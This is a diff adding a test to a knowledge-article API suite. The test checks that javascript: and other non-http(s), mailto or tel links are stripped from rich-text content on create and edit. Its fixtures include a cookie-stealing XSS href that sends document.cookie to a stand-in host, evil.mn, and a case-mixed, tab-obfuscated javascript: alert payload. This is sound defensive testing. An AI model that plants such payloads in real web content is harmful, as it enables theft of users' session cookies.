@@ -92,6 +92,27 @@ describe("knowledge articles", () => {
     expect((await admin.client.get<List<ArticleSummary>>("/api/knowledge/articles")).body.total).toBe(1);
   });
 
+  it("links other than http(s), mailto and tel are dropped on save, on create and on edit; the text stays", async () => {
+    const admin = await companyAdmin(t);
+    const f = await folder(admin.client);
+    const linked = (href: string): TiptapNode => ({
+      type: "paragraph",
+      content: [{ type: "text", text: "энд дарна уу", marks: [{ type: "link", attrs: { href } }] }],
+    });
+    const created = await article(admin.client, f.id, "Холбоос", doc(linked("javascript:fetch('//evil.mn?'+document.cookie)"), linked("https://shop.mn/help")));
+    const hrefs = (view: ArticleView) => JSON.stringify(view.content).match(/"href":"[^"]*"/g) ?? [];
+    expect(hrefs(created)).toEqual(['"href":"https://shop.mn/help"']);
+    expect(JSON.stringify(created.content)).toContain("энд дарна уу");
+    const edited = await admin.client.put<ArticleView>(`/api/knowledge/articles/${created.id}`, {
+      folder_id: f.id,
+      name: "Холбоос",
+      content: doc(linked("JaVa\tScRiPt:alert(1)"), linked("mailto:help@shop.mn")),
+    });
+    expect(hrefs(edited.body)).toEqual(['"href":"mailto:help@shop.mn"']);
+    const [stored] = await t.database.db.select().from(knowledgeArticles).where(eq(knowledgeArticles.id, created.id));
+    expect(JSON.stringify(stored?.content)).not.toMatch(/script:/i);
+  });
+
   it("the package's article limit gives article_limit_reached", async () => {
     const admin = await companyAdmin(t);
     const f = await folder(admin.client);
